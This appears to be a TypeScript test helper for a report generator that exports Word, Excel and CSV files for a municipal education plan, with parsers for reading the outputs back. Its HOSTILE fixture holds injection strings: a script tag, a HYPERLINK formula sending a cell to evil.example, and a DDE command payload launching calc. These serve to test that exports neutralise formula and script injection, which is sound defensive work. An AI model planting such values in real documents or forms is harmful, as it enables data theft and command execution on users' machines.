// Reading the report files back the way a consumer would see them: the zip parts of docx/xlsx,
// the visible text of Word paragraphs, and CSV records by RFC 4180.
import { strFromU8, unzipSync } from 'fflate';
import type { Theme, Unit } from '../../../src/domain';
import { buildReport, type BoardReport, type ReportInput } from '../../../src/domain/report';
import { buildDemoDataset, DEMO_PLAN_KEY } from '../../../src/demo';
import { checkIn, goal, plan } from '../domain/fixtures';

export function zipParts(bytes: Uint8Array): Record<string, string> {
  const files = unzipSync(bytes);
  return Object.fromEntries(Object.entries(files).filter(([name]) => /\.(xml|rels)$/.test(name)).map(([name, data]) => [name, strFromU8(data)]));
}

const decode = (s: string) =>
  s
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&quot;/g, '"')
    .replace(/&apos;/g, "'")
    .replace(/&amp;/g, '&');

/** The visible text of each paragraph of a WordprocessingML fragment. */
export function paragraphTexts(xml: string): string[] {
  return [...xml.matchAll(/<w:p[ >][\s\S]*?<\/w:p>/g)].map((p) => [...p[0].matchAll(/<w:t(?: [^>]*)?>([^<]*)<\/w:t>/g)].map((t) => decode(t[1] ?? '')).join(''));
}

/** Table rows of document.xml's tables, in order, each as its raw XML. */
export function tableRowsXml(xml: string): string[] {
  return [...xml.matchAll(/<w:tr[ >][\s\S]*?<\/w:tr>/g)].map((m) => m[0]);
}

/** RFC 4180 records: quoted fields may hold separators, quotes (doubled) and line breaks. */
export function parseCsv(text: string, sep = ';'): string[][] {
  const records: string[][] = [];
  let field = '';
  let record: string[] = [];
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"' && field === '') quoted = true;
    else if (ch === sep) {
      record.push(field);
      field = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i++;
    } else field += ch;
  }
  if (field !== '' || record.length) {
    record.push(field);
    records.push(record);
  }
  return records;
}

export function demoReport(lang: 'fi' | 'sv' | 'en', period = '2021-08', edit?: (d: ReturnType<typeof buildDemoDataset>) => void): BoardReport {
  const d = buildDemoDataset();
  edit?.(d);
  const p = d.plans.find((x) => x.key === DEMO_PLAN_KEY);
  if (!p) throw new Error('demo plan missing');
  return buildReport({ plan: p, themes: d.themes, goals: d.goals, groups: d.groups, units: d.units, checkIns: d.checkIns, period, lang, generatedAt: '2021-09-09T09:00:00+03:00' });
}

export const HOSTILE = {
  title: '<script>alert("x")</script> & co',
  hyperlink: '=HYPERLINK("http://evil.example/?"&A1,"Avaa")',
  plus: "+cmd|' /C calc'!A0",
  minus: '-1+1',
  at: '@SUM(A1:A9)',
  long: `${'Pitkä kertomus. '.repeat(1250)}LOPPU`,
  control: 'ohjaus\u0001merkki\uFFFF ja\u0008 lisää',
};

const units: Unit[] = [
  { key: 'VAKA', order: 1, name: { fi: 'Varhaiskasvatus', sv: 'Småbarnspedagogik' } },
  { key: 'POPE', order: 2, name: { fi: 'Perusopetus', sv: 'Grundläggande utbildning' } },
  { key: 'TAKO', order: 3, name: { fi: 'Toisen asteen koulutus', sv: 'Andra stadiet' } },
];

/** A plan whose texts are every kind of hostile content a person can paste into a list or a check-in. */
export function hostileReport(lang: 'fi' | 'sv' = 'fi'): BoardReport {
  const themes: Theme[] = [{ key: 't1', planKey: 'vantaa-2021', code: '1', order: 1, title: { fi: '=1+1 teema', sv: '=1+1 tema' } }];
  const input: ReportInput = {
    plan: plan({ units: ['VAKA', 'POPE', 'TAKO'] }),
    themes,
    goals: [
      goal({ key: 'g1', code: '1', title: HOSTILE.title, indicator: { text: HOSTILE.hyperlink, kind: 'qualitative' }, baseline: { text: HOSTILE.at }, target: { text: HOSTILE.minus }, units: ['VAKA', 'POPE', 'TAKO'] }),
    ],
    groups: [],
    units,
    checkIns: [
      checkIn({ goalKey: 'g1', unit: 'VAKA', status: 2, narrative: HOSTILE.plus }),
      checkIn({ goalKey: 'g1', unit: 'POPE', status: 1, narrative: HOSTILE.long }),
      checkIn({ goalKey: 'g1', unit: 'TAKO', status: 1, narrative: HOSTILE.control }),
    ],
    period: '2021-08',
    lang,
    generatedAt: '2021-09-09T09:00:00+03:00',
  };
  return buildReport(input);
}
